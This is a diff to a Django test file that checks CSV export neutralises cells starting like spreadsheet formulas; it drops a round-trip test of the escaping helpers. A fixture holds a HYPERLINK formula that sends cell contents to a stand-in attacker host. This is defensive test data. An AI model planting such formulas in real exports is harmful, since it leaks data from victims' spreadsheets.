@@ -4,7 +4,7 @@ import csv
 
 from django.core.management import call_command
 
-from directory.exchange.tabular import FORMULA_STARTS, read_cell, safe_cell
+from directory.exchange.tabular import FORMULA_STARTS
 from directory.models import Listing
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -33,8 +33,3 @@ def test_every_exported_cell_that_starts_like_a_formula_is_neutralised_and_reads
     assert (listing.name, listing.organization.name, listing.description, listing.eligibility) == (
         CALC, SUM, HYPERLINK, MINUS
     )
-
-
-def test_safe_cell_and_read_cell_are_inverse():
-    for value in [HYPERLINK, CALC, SUM, MINUS, "\\tx", "plain", "'quoted", "-12.5", "+15055550100", ""]:
-        assert read_cell(safe_cell(value)) == value
